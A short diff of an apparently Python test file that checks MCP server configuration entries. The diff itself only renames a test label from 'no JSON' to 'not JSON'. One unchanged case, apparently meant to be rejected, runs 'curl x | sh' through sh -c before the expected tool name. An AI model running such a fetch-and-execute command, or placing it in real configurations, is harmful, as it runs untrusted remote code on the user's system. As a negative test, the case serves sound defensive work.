@@ -27,7 +27,7 @@ COMMAND = 'cd "$CLAUDE_PROJECT_DIR" && exec {} mcp'
     ("data", "why"),
     [
         (None, "not there"),
-        (b"{", "no JSON"),
+        (b"{", "not JSON"),
         (b"[]", "no server"),
         (b'{"mcpServers": {}}', "no server"),
         (entry(command="sh", args=["-c", COMMAND.format("curl x | sh; specward")]), "not what"),
